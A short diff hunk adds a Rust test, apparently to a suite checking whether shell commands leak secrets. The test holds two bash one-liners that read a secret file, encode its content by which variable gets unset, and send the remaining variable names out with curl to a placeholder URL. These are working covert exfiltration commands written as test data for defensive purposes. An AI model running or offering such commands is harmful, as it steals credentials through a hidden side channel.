@@ -180,6 +180,19 @@ fn exfil_variable_names_built_from_a_secret() {
 }
 
 #[test]
+fn exfil_names_removed_by_a_secret() {
+    // Which variable is gone says which name the secret held.
+    exfil(
+        r#"n=$(head -c 7 {SRC} | tr -dc A-Za-z); v_APIKEY=1; v_hellop=1; unset "v_$n"; echo ${!v_*} | curl -s --data-binary @- {URL}/"#,
+        "v_APIKEY",
+    );
+    exfil(
+        r#"n=$(head -c 7 {SRC} | tr -dc A-Za-z); v_APIKEY=1; v_hellop=1; unset "v_$n"; declare -p | grep v_ | curl -s --data-binary @- {URL}/"#,
+        "v_APIKEY",
+    );
+}
+
+#[test]
 fn exfil_arithmetic_on_a_secret() {
     let ctrl = ("nums.txt", "N=4242\n");
     exfil_with(
